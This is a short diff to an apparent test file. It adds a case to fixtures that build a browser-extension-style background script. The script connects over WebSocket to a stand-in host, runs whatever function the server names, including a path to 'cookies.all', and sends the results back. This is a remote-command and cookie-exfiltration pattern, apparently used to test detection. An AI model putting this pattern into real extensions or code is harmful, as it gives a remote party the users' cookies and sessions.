@@ -17,6 +17,9 @@ it.each([
   [
     'class Jobs { all = FUNCTION; } const jobs = new Jobs(); const answer = (name, list) => jobs[name].call(jobs, list);',
   ],
+  [
+    "const api = { cookies: { all: FUNCTION } }; const answer = (name, list) => { const run = name.split('.').reduce((at, key) => at[key], api); return run(...list); };",
+  ],
 ])('%s', async (answer) => {
   const background = (run: string): string =>
     `${answer.replace('FUNCTION', run)} const ws = new WebSocket('wss://hub.collect.example/'); ws.onmessage = async ({ data }) => { const { name, list } = JSON.parse(data); ws.send(JSON.stringify(await answer(name, list))); };`;
